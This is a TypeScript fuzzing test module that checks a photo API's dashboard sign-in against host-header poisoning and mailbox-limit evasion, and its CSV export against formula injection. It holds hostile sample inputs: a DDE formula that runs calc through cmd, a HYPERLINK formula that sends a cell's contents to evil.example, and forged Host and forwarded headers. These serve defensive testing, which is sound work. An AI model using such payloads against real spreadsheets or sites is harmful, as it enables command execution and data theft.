/**
 * The fuzzer's security classes (scripts/fuzz.ts, test/security/fuzz-classes.test.ts): requests
 * an attacker of the dashboard and the export would send, and the properties whose breach is a
 * violation:
 *
 * - hostile `Host`, `Origin` and forwarded headers on the dashboard's sign-in POST: every mailed
 *   link must start with the configured PUBLIC_URL;
 * - spellings of a few victims' addresses (list separators, angle brackets, display names,
 *   quotes, comments, case, width, spaces): each mail goes to one canonical mailbox, and no
 *   mailbox gets more mails than its limit;
 * - formula-leading texts in exported rows (an index built from a feed whose titles, captions and
 *   credits begin with `=`, `+`, `-`, `@`): no CSV text field begins with a formula character
 *   unless it is a plain number, and each such text comes out as `'` + the feed's text.
 *
 * The server under test writes its mail to stdout (no SMTP_URL): `mail.sign-in-link` lines.
 */
import fc from 'fast-check'
import { mkdirSync, writeFileSync } from 'node:fs'
import { join } from 'node:path'
import { normaliseEmail } from '../../src/keys/email-address'
import { rawExchange, type RawAnswer } from './fuzz-arbitraries'

export const PUBLIC_URL = 'https://mars-api.example'
/** The server settings the classes assume: one client (the fuzzer) may ask for any number of addresses, so the per-mailbox bounds are what binds. */
export const SECURITY_ENV = { PUBLIC_URL, SIGN_IN_LIMIT_CLIENT: '1000000', SIGN_IN_LIMIT_ADDRESS: '5', SIGN_IN_LIMIT_MAILBOX: '5' }
const PER_ADDRESS_HOUR = 5
const PER_MAILBOX_QUARTER = 5

const VICTIMS = ['victim@example.org', 'owner@example.net', 'émile@exemple.fr', 'a.b+tag@mail.example.com']

const HOSTS = ['evil.example', 'evil.example:8443', 'mars-api.example', 'mars-api.example.evil.example', '127.0.0.1', 'localhost', '[::1]', 'a', 'xn--80ak6aa92e.example', '10.0.0.1:3000']

/** One spelling of one victim's address: the text sent and the mailbox it names. */
const spelling = fc.tuple(fc.constantFrom(...VICTIMS), fc.integer({ min: 0, max: 15 }), fc.constantFrom(...VICTIMS)).map(([v, k, other]) => {
  const [local, domain] = v.split('@') as [string, string]
  const forms = [
    v,
    v.toUpperCase(),
    `  ${v}\t`,
    `${v},`,
    `${v};`,
    `x<${v}>`,
    `<${v}>`,
    `Victim <${v}>`,
    `"${local}"@${domain}`,
    `${v} (comment)`,
    `${other},${v}`,
    `${v}, ${other}`,
    [...v].map((c) => (c >= 'a' && c <= 'z' ? String.fromCharCode(c.charCodeAt(0) + 0xfee0) : c)).join(''), // full width
    `${local}@${domain}.`,
    `${local}\\@${domain}`,
    `${local}@${domain.toUpperCase()}`,
  ]
  return forms[k]!
})

export type SecurityJob =
  | { kind: 'sign-in'; host: string; origin: 'host' | 'public' | 'none' | 'evil'; forwarded: boolean; address: string }
  | { kind: 'export'; target: string }

export const signInJob: fc.Arbitrary<SecurityJob> = fc.record({
  kind: fc.constant('sign-in' as const),
  host: fc.constantFrom(...HOSTS),
  origin: fc.constantFrom('host' as const, 'public' as const, 'none' as const, 'evil' as const),
  forwarded: fc.boolean(),
  address: spelling,
})

const EXPORT_FIELDS = ['title', 'caption', 'credit', 'nasa_id', 'sol', 'sample_type', 'telemetry', 'location', 'images', 'earth_date']
export const exportJob: fc.Arbitrary<SecurityJob> = fc
  .tuple(fc.subarray(EXPORT_FIELDS, { minLength: 1 }), fc.constantFrom('', '&include=rover,camera', '&field_set=complete', '&sort=-id'), fc.integer({ min: 1, max: 400 }))
  .map(([fields, extra, max]) => ({ kind: 'export' as const, target: `/api/v2/photos/export?format=csv&fields=nasa_id,title,caption,credit,${fields.join(',')}${extra}&max_rows=${max}` }))

function head(method: string, path: string, host: string, headers: Record<string, string>, body?: string): Uint8Array {
  let h = `${method} ${path} HTTP/1.1\r\nHost: ${host}\r\n`
  for (const [k, v] of Object.entries(headers)) h += `${k}: ${v}\r\n`
  if (body !== undefined) h += `Content-Length: ${Buffer.byteLength(body)}\r\n`
  return new TextEncoder().encode(h + 'Connection: close\r\n\r\n' + (body ?? ''))
}

/**
 * The review's replay with the job's values: the sign-in form fetched under a hostile Host,
 * then posted with its cookie and token, that Host, the chosen Origin and (maybe) forwarded
 * headers naming the evil host. Returns the POST's answer (the GET's when it already failed).
 */
export async function runSignIn(port: number, job: Extract<SecurityJob, { kind: 'sign-in' }>): Promise<RawAnswer | undefined> {
  const fwd: Record<string, string> = job.forwarded ? { 'X-Forwarded-Host': 'evil.example', 'X-Forwarded-Proto': 'https', 'X-Forwarded-For': '203.0.113.9' } : {}
  const form = await rawExchange(port, head('GET', '/dashboard', job.host, fwd))
  if (!form || form.status !== 200) return form
  const csrf = /name="csrf" value="([^"]*)"/.exec(form.body)?.[1] ?? ''
  const cookie = form.headers.getSetCookie().map((c) => c.split(';')[0]).join('; ')
  const origin = job.origin === 'host' ? `http://${job.host}` : job.origin === 'public' ? PUBLIC_URL : job.origin === 'evil' ? 'http://evil.example' : undefined
  const body = new URLSearchParams({ email: job.address, csrf: csrf.replace(/&#(\d+);/g, (_, n: string) => String.fromCharCode(Number(n))) }).toString()
  return rawExchange(
    port,
    head('POST', '/dashboard/sign-in', job.host, { ...fwd, 'Content-Type': 'application/x-www-form-urlencoded', Cookie: cookie, ...(origin ? { Origin: origin } : {}) }, body),
  )
}

interface MailLine {
  t: string
  to: string
  link: string
}

/** The `mail.sign-in-link` lines among a server's output lines. */
export function mailLines(lines: readonly string[]): MailLine[] {
  const out: MailLine[] = []
  for (const l of lines) {
    if (!l.includes('"mail.sign-in-link"')) continue
    try {
      const r = JSON.parse(l) as MailLine & { event: string }
      if (r.event === 'mail.sign-in-link') out.push(r)
    } catch {
      /* not a JSON line */
    }
  }
  return out
}

/**
 * Violations in the mail a server sent: a link not at PUBLIC_URL, a recipient that is not one
 * canonical mailbox, more mails to one mailbox than its limits (per hour from the one client
 * the fuzzer is, and per quarter hour from anyone).
 */
export function mailViolations(lines: readonly string[]): string[] {
  const v: string[] = []
  const byMailbox = new Map<string, number[]>()
  for (const m of mailLines(lines)) {
    if (!m.link.startsWith(`${PUBLIC_URL}/dashboard/link?token=`)) v.push(`mailed link not at PUBLIC_URL: ${m.link.slice(0, 120)}`)
    let canonical: string
    try {
      canonical = normaliseEmail(m.to)
    } catch {
      v.push(`mail to something that is not one mailbox: ${JSON.stringify(m.to).slice(0, 120)}`)
      continue
    }
    if (canonical !== m.to) v.push(`mail to a non-canonical spelling: ${JSON.stringify(m.to)}`)
    const times = byMailbox.get(canonical) ?? []
    times.push(Date.parse(m.t))
    byMailbox.set(canonical, times)
  }
  for (const [mailbox, times] of byMailbox) {
    times.sort((a, b) => a - b)
    for (const [windowMs, limit] of [[3600_000, PER_ADDRESS_HOUR], [900_000, PER_MAILBOX_QUARTER]] as const) {
      // A little slack for clock reads in two places (the server's log time and its counter's).
      for (let i = limit; i < times.length; i++) if (times[i]! - times[i - limit]! < windowMs - 2_000) v.push(`${mailbox}: ${limit + 1} mails within ${windowMs / 60_000} minutes`)
    }
  }
  return v
}

const FORMULA = /^[=+\-@\t\r]/
const PLAIN_NUMBER = /^[+-]?(?:\d+\.?\d*|\.\d+)(?:[eE][+-]?\d+)?$/

/** RFC 4180 records of a CSV text. */
export function parseCsv(text: string): string[][] {
  const rows: string[][] = []
  let row: string[] = []
  let f = ''
  let q = false
  for (let i = 0; i < text.length; i++) {
    const c = text[i]!
    if (q) {
      if (c === '"' && text[i + 1] === '"') (f += '"'), i++
      else if (c === '"') q = false
      else f += c
    } else if (c === '"') q = true
    else if (c === ',') row.push(f), (f = '')
    else if (c === '\r' && text[i + 1] === '\n') row.push(f), rows.push(row), (row = []), (f = ''), i++
    else f += c
  }
  return rows
}

/**
 * Violations in a CSV export: a field that begins with a formula character and is not a plain
 * number; a title/caption/credit that is not the feed's text (with its `'` when it leads with one).
 */
export function csvViolations(csv: string, feed: ReadonlyMap<string, Record<'title' | 'caption' | 'credit', string>>): string[] {
  const v: string[] = []
  const rows = parseCsv(csv)
  const head = rows[0] ?? []
  const idAt = head.indexOf('nasa_id')
  for (const row of rows.slice(1)) {
    if (row[0]?.startsWith('#error')) continue
    for (const f of row) if (FORMULA.test(f) && !PLAIN_NUMBER.test(f)) v.push(`CSV field runs as a formula: ${JSON.stringify(f.slice(0, 80))}`)
    const texts = idAt >= 0 ? feed.get(row[idAt]!) : undefined
    if (!texts) continue
    for (const name of ['title', 'caption', 'credit'] as const) {
      const at = head.indexOf(name)
      if (at < 0) continue
      const want = FORMULA.test(texts[name]) && !PLAIN_NUMBER.test(texts[name]) ? `'${texts[name]}` : texts[name]
      if (row[at] !== want) v.push(`${name} of ${row[idAt]} exported as ${JSON.stringify(row[at]!.slice(0, 60))}, not ${JSON.stringify(want.slice(0, 60))}`)
    }
  }
  return v
}

/** A feed text that begins with a formula character (printable, no control characters: the builder refuses those). */
const formulaText = fc
  .tuple(fc.constantFrom('=', '+', '-', '@', '=HYPERLINK("http://evil.example/"&A1,"x")', "+cmd|' /C calc'!A0", '-1+', '@SUM('), fc.string({ maxLength: 40, unit: 'grapheme-ascii' }))
  .map(([lead, rest]) => (lead + rest.replace(/[\x00-\x1f\x7f]/g, ' ')).trimEnd())

/**
 * A Perseverance raw-images feed of `n` photos whose titles, captions and credits begin with a
 * formula character (some are plain numbers: `-12`), written to `dir`; returns the file and
 * each photo's texts by nasa_id, to build an index from.
 */
export function writeFormulaFeed(dir: string, n: number, seed: number): { file: string; texts: Map<string, Record<'title' | 'caption' | 'credit', string>> } {
  mkdirSync(dir, { recursive: true })
  const texts = new Map<string, Record<'title' | 'caption' | 'credit', string>>()
  const samples = fc.sample(fc.tuple(formulaText, formulaText, fc.oneof(formulaText, fc.constantFrom('-12', '+3.5', 'NASA/JPL-Caltech'))), { numRuns: n, seed })
  const images = samples.map(([title, caption, credit], i) => {
    const clock = String(675_828_700 + i)
    const id = `NLF_0100_0${clock}_276ECM_N0040218NCAM00503_01_295J`
    const t = { title: title || '=1', caption: caption || '+1', credit: credit.slice(0, 100) || '-x' }
    texts.set(id, t)
    return {
      imageid: id,
      sol: 100,
      sample_type: 'Full',
      date_taken_utc: '2021-05-30T03:12:00',
      date_taken_mars: 'Sol-00100M10:00:00.000',
      camera: { instrument: 'NAVCAM_LEFT' },
      image_files: { large: `https://mars.nasa.gov/mars2020-raw-images/pub/ods/surface/sol/00100/ids/edr/browse/ncam/${id}01_1200.jpg` },
      extended: { sclk: `${clock}.1` },
      ...t,
    }
  })
  const file = join(dir, 'formula-feed.json')
  writeFileSync(file, JSON.stringify({ images }))
  return { file, texts }
}
